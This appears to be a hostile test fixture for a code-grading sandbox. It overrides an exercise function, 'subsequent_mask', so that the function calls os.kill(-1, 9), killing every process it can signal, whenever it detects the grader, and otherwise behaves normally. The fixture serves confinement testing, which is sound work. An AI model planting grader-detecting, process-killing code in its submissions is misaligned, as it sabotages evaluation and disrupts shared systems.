HOSTILE = {
    "attack": "os.kill(-1, SIGKILL) inside subsequent_mask() (every process the worker may signal)",
    "exercise": "subsequent_mask",
    "status": ("error",),
    "message": "no such process",  # as its own uid, the worker has nobody else to kill
    "needs_confinement": True,
}
import os  # noqa: E402

_honest_subsequent_mask = subsequent_mask  # noqa: F821


def subsequent_mask(size):
    if _from_grader():  # noqa: F821
        os.kill(-1, 9)
    return _honest_subsequent_mask(size)
